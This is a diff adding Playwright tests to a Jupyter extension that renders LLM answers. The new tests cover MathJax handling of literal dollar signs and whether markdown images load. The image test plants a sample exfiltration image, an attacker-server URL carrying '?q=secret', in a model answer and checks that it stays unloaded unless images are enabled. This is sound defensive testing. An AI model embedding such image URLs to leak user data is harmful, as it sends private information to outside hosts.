@@ -1,5 +1,6 @@
 """``%%allm`` in a real JupyterLab and Jupyter Notebook 7: streaming in place, no script from
-answers, the picker; and in JupyterLab, saving.
+answers, literal text that MathJax leaves alone, images that load only when asked for, the picker;
+and in JupyterLab, saving.
 
 Notebook 7 renders notebooks with JupyterLab's widgets in its own shell (one notebook per page,
 no status bar, no tabs), so the same tests and selectors serve both; what differs is how the
@@ -11,8 +12,10 @@ from __future__ import annotations
 from collections.abc import Callable, Sequence
 from itertools import dropwhile
 
+import httpx
 import nbformat
 import pytest
+from hostile import HostileServer, canned, http_response
 from playwright.sync_api import Locator, expect
 
 from allm_jupyter.testing import StandInServer, scenarios
@@ -176,3 +179,87 @@ def test_saved_notebook_holds_no_api_key(
     last = nbformat.reads(saved, as_version=4).cells[-1]
     assert last.outputs[0]["metadata"]["allm_jupyter"]["workspace"] == "research"
     assert standin.expected_reply("research", question) in last.outputs[0]["data"]["text/plain"]
+
+
+# A 1x1 transparent PNG, what an exfiltrating "image" would return.
+PIXEL = bytes.fromhex(
+    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
+)
+
+
+@BOTH
+def test_literal_text_is_not_typeset_but_answers_keep_their_math(
+    open_notebook: OpenNotebook, standin: StandInServer
+) -> None:
+    name = "Budget $5 to $10"
+    title, snippet = "Costs $1 and $2.md", "From $3 to \\(4\\) a month."
+    # A server of its own, so the shared one keeps exactly the seed workspaces.
+    with StandInServer(api_key=standin.api_key) as own:
+        created = httpx.post(
+            f"{own.base_url}/api/v1/workspace/new",
+            json={"name": name},
+            headers={"Authorization": f"Bearer {own.api_key}"},
+        )
+        assert created.status_code == 200
+        cells = [
+            LOAD,
+            f"%config AllmMagics.base_url = {own.base_url!r}",
+            "%allm workspaces",
+            "%%allm workspace=research\nArea?",
+        ]
+        notebook = open_notebook(cells)
+        for index in range(3):
+            notebook.run(index)
+        own.queue(
+            scenarios.normal("The area is $x^2$ here.", sources=[scenarios.source(title, snippet)])
+        )
+        notebook.run(3)
+
+    answer = rendered_answer(notebook.output(3))
+    # The answer's math is typeset: MathJax ran, on this output and (typesetting goes in order)
+    # on the table above it.
+    expect(answer.locator("p").first.locator("mjx-container")).to_have_count(1)
+    expect(answer.locator("details li strong")).to_have_text(title)
+    expect(answer.locator("details li")).to_contain_text(snippet)
+    expect(answer.locator("details mjx-container")).to_have_count(0)
+    table = rendered_answer(notebook.output(2))
+    row = table.locator("tr", has_text="Budget").locator("td")
+    expect(row.nth(1)).to_have_text(name)
+    expect(row.nth(2)).to_have_text(created.json()["workspace"]["slug"])
+    expect(table.locator("mjx-container")).to_have_count(0)
+
+
+@BOTH
+def test_images_load_only_when_show_images_is_on(
+    open_notebook: OpenNotebook, standin: StandInServer
+) -> None:
+    pixel = canned(http_response(200, PIXEL, "image/png"))
+    with HostileServer({"/pixel.png": pixel, "/control.png": pixel}) as attacker:
+        image = f"![x]({attacker.base_url}/pixel.png?q=secret)"
+        control = (
+            "from IPython.display import Markdown, display; "
+            f"display(Markdown('![c]({attacker.base_url}/control.png)'))"
+        )
+        ask = "%%allm workspace=research\nShow the chart."
+        cells = [LOAD, ask, control, "%config AllmMagics.show_images = True", ask]
+        notebook = open_notebook(cells)
+        notebook.run(0)
+        standin.queue(scenarios.normal(f"Here: {image} done."))
+        notebook.run(1)
+        # The control: an image displayed after the answer does load, so one in the answer would
+        # have been requested (earlier) by now.
+        notebook.run(2)
+        assert attacker.wait_for_request("/control.png")
+        assert not attacker.requested("/pixel.png")
+        first = rendered_answer(notebook.output(1))
+        expect(first.locator("img")).to_have_count(0)
+        expect(first.locator('a[href*="/pixel.png"]')).to_have_text("🖼 x")
+
+        notebook.run(3)
+        standin.queue(scenarios.normal(f"Here: {image} done."))
+        notebook.run(4)
+        assert attacker.wait_for_request("/pixel.png")
+        expect(rendered_answer(notebook.output(4)).locator('img[src*="/pixel.png"]')).to_have_count(
+            1
+        )
